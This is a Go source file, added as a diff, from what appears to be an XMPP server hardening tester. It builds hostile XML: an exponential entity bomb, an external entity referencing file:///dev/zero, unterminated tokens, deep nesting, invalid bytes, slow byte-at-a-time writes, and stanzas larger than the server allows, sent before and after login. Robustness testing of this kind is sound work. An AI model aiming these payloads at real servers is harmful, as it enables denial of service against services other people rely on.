@@ -1,0 +1,225 @@
+package hostile
+
+import (
+	"fmt"
+	"strings"
+	"time"
+)
+
+// A markup is made of pieces, until who gets it has enough.
+type markup struct {
+	head  string
+	piece func(b []byte, n int) []byte // appends the n-th
+	tail  string
+	bytes bool // one at a time
+}
+
+func repeat(s string) func([]byte, int) []byte {
+	return func(b []byte, _ int) []byte { return append(b, s...) }
+}
+
+// early are what is sent before login, behind a header.
+func early() []markup {
+	return []markup{
+		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", false},                                                         // a name without an end
+		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", false},                                                     // a value without an end
+		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "a%d='' ", n) }, "", false},              // attributes
+		{"<auth ", func(b []byte, n int) []byte { return fmt.Appendf(b, "xmlns:p%d='u:%d' ", n, n) }, "", false}, // prefixes
+		{"", repeat("<a>"), "", false},                                                                           // depth
+		{"", func(b []byte, n int) []byte { return fmt.Appendf(b, "<p%d:a xmlns:p%d='u'>", n, n) }, "", false},   // depth, each with a prefix
+		{"<auth>", repeat("<a/>"), "", false},                                                                    // children
+		{"<auth>", repeat("<a b=''/>"), "", false},                                                               // children with attributes
+		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", false},               // text without an end
+		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("&#x41;&amp;"), "", false},                    // references
+		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'><![CDATA[", repeat("]]]]]]]]&&<<"), "", false},          // a section without an end
+		{"<!--", repeat("- - - "), "", false},                                                                    // a comment
+		{"<?a ", repeat("? ? ? "), "", false},                                                                    // an instruction
+		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("&lol;"), "", false},                          // an entity
+		{"", repeat("<a xmlns='u'/>"), "", false},                                                                // elements
+		{"", repeat(strings.Repeat(" ", 64)), "", false},                                                         // blanks
+		{"<auth", repeat("xxxxxxxxxxxxxxxx"), "", true},                                                          // a name, a byte at a time
+		{"<auth a='", repeat("xxxxxxxxxxxxxxxx"), "", true},                                                      // a value, a byte at a time
+		{"<auth xmlns='" + nsSASL + "' mechanism='PLAIN'>", repeat("eHh4eHh4eHh4eHh4"), "", true},                // text, a byte at a time
+		{"<auth>", repeat("\xed\xa0\x80\xff"), "", false},                                                        // bytes that are no text
+	}
+}
+
+// instead are what is sent in place of a header.
+func instead(header string) []markup {
+	bomb := "<!DOCTYPE l [<!ENTITY a0 'ha'>"
+	for n := 1; n < 30; n++ {
+		bomb += fmt.Sprintf("<!ENTITY a%d '&a%d;&a%d;'>", n, n-1, n-1)
+	}
+	root := strings.TrimSuffix(header, ">")
+	return []markup{
+		{"<?xml version='1.0'?>" + bomb + "]><l>&a29;", repeat("&a29;"), "", false},                          // a document type
+		{"<?xml version='1.0'?><!DOCTYPE l SYSTEM 'file:///dev/zero'><l>", repeat("&x;"), "", false},         // an external entity
+		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " a%d=''", n) }, "", false},              // a header with attributes
+		{root, func(b []byte, n int) []byte { return fmt.Appendf(b, " xmlns:q%d='u:%d'", n, n) }, "", false}, // a header with prefixes
+		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", false},                                               // a header without an end
+		{root + " a='", repeat("xxxxxxxxxxxxxxxx"), "", true},                                                // a header, a byte at a time
+	}
+}
+
+// stanzas are payloads of messages that cost much for their size, and yet, at some 48 KiB, are within what
+// servers commonly allow after login.
+func stanzas() []markup {
+	nest := strings.Repeat("<a>", 50) + strings.Repeat("</a>", 50)
+	attrs := "<a"
+	for n := range 50 {
+		attrs += fmt.Sprintf(" a%d=''", n)
+	}
+	attrs += "/>"
+	prefixes := "<a"
+	for n := range 8 {
+		prefixes += fmt.Sprintf(" xmlns:p%d='u:%d'", n, n)
+	}
+	prefixes += "><p7:b/></a>"
+	return []markup{
+		{"<body>", repeat("But soft, what light"), "</body>", false}, // text
+		{"<body>", repeat("&amp;&lt;&#38;"), "</body>", false},       // references
+		{"<body>", repeat("<![CDATA[]]>"), "</body>", false},         // sections
+		{"<x xmlns='u'>", repeat("<a/>"), "</x>", false},             // children
+		{"<x xmlns='u'>", repeat("<a b=''/>"), "</x>", false},        // children with attributes
+		{"<x xmlns='u'>", repeat(nest), "</x>", false},               // depth
+		{"<x xmlns='u'>", repeat(attrs), "</x>", false},              // attributes
+		{"<x xmlns='u'>", repeat(prefixes), "</x>", false},           // prefixes
+	}
+}
+
+// badXML is, for half of the lines, markup before login; for the other half, after it.
+func badXML(l *line, round int) error {
+	n := l.i/2 + round
+	if l.i%2 == 1 {
+		return l.badStanzas(n)
+	}
+	a := l.a
+	addr := a.cfg.Addr
+	if !addr.IsValid() {
+		addr = a.cfg.Direct
+	}
+	s, err := l.hail(addr)
+	if err != nil {
+		return err
+	}
+	defer s.Close()
+	if addr != a.cfg.Addr {
+		if err := s.secure(); err != nil {
+			return err
+		}
+	}
+	header := a.header()
+	list, other := early(), instead(header)
+	m := list[n%len(list)]
+	if n%5 == 4 {
+		m, header = other[n/5%len(other)], ""
+	}
+	if err := s.say(header); err != nil {
+		return err
+	}
+	return s.pour(&m, 1<<20)
+}
+
+// pour writes m up to so many bytes, unless the server ends it before.
+func (w *wire) pour(m *markup, most int) error {
+	end := w.drain()
+	b := []byte(m.head)
+	chunk := 4 << 10
+	if m.bytes {
+		chunk, most = 64, most/16
+	}
+	for n, done := 0, 0; done < most; {
+		for ; len(b) < chunk; n++ {
+			b = m.piece(b, n)
+		}
+		if err := w.a.attempt(1); err != nil {
+			return err
+		}
+		if err := w.put(b, m.bytes); err != nil {
+			return err
+		}
+		select {
+		case err := <-end:
+			return err
+		default:
+		}
+		done += len(b)
+		b = b[:0]
+	}
+	if err := w.say(m.tail); err != nil {
+		return err
+	}
+	// The server takes it all, or has not yet said what it thinks of it.
+	select {
+	case err := <-end:
+		return err
+	case <-time.After(time.Second):
+		return errLeft
+	}
+}
+
+func (w *wire) put(b []byte, bytes bool) error {
+	if !bytes {
+		_, err := w.top.Write(b)
+		return err
+	}
+	for i := range b {
+		if _, err := w.top.Write(b[i : i+1]); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// badStanzas is a session that writes what costs to itself, as big as it may be, and in the end bigger.
+func (l *line) badStanzas(n int) error {
+	s, err := l.logIn(l.a.cfg.TLS)
+	if err != nil {
+		return err
+	}
+	defer s.Close()
+	list := stanzas()
+	end := s.drain()
+	size := min(s.limit*7/8, 48<<10) // more of children would be too many for most
+	for k := range 16 {
+		m := list[(n+k)%len(list)]
+		single, size, weight := false, size, 1
+		if k%8 == 7 {
+			single, size, weight = true, 1<<10, 16
+		}
+		b := s.stanza(&m, size)
+		if err := s.a.attempt(weight); err != nil {
+			return err
+		}
+		if err := s.put(b, single); err != nil {
+			return err
+		}
+		select {
+		case err := <-end:
+			return err
+		default:
+		}
+	}
+	m := list[n%len(list)]
+	if err := s.a.attempt(1); err != nil {
+		return err
+	}
+	if err := s.put(s.stanza(&m, s.limit+64<<10), false); err != nil {
+		return err
+	}
+	select {
+	case err := <-end:
+		return err
+	case <-time.After(5 * time.Second):
+		return errLeft
+	}
+}
+
+// stanza is a message to oneself of at most so many bytes.
+func (s *session) stanza(m *markup, size int) []byte {
+	b := append(make([]byte, 0, size+1<<10), "<message type='chat' to='"+s.jid+"'>"+m.head...)
+	for n := 0; len(b) < size; n++ {
+		b = m.piece(b, n)
+	}
+	return append(b, m.tail+"</message>"...)
+}
